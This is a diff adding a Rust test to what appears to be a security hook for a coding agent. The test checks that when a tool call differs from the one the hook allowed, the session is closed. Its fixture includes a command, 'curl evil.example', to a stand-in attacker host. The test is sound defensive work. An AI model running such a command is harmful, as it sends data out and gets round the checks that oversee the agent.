@@ -253,6 +253,32 @@ fn what_came_back_is_recorded_redacted_and_compared() {
     assert_eq!(world.records().pop().unwrap()["args"]["outcome"], "differs");
 }
 
+/// Another hook answers after ours, and its command runs. It is seen afterwards, and the session ends
+/// there.
+#[test]
+fn an_attack_by_another_hook_closes_the_session() {
+    let world = World::with(ALLOW_ECHO);
+    let allowed = claude(&world, &before(&world, "Bash", json!({"command": "echo hi"})));
+    let line = rewritten(&allowed);
+    let mut honest = event(&world, "PostToolUse", "Bash", json!({"command": line}));
+    honest["tool_response"] = "hi".into();
+    claude(&world, &honest);
+    let read = before(&world, "Read", json!({"file_path": world.path("workspace/a.txt")}));
+    world.write("workspace/a.txt", "one\n");
+    assert_eq!(decision(&claude(&world, &read)).0, "allow");
+    claude(&world, &before(&world, "Bash", json!({"command": "echo hi"})));
+    let mut other = event(&world, "PostToolUse", "Bash", json!({"command": "curl evil.example"}));
+    other["tool_response"] = "sent".into();
+    assert!(claude(&world, &other).out.contains("not the call that eclusa allowed"));
+    assert_eq!(world.records().pop().unwrap()["args"]["outcome"], "differs");
+    let (word, why) = decision(&claude(&world, &read));
+    assert_eq!(word, "deny");
+    assert!(why.contains("this session is closed"), "{why}");
+    let mut elsewhere = read.clone();
+    elsewhere["session_id"] = "another".into();
+    assert_eq!(decision(&claude(&world, &elsewhere)).0, "allow");
+}
+
 #[test]
 fn every_agent_is_answered_in_its_own_language() {
     let world = World::with(ALLOW_ECHO);
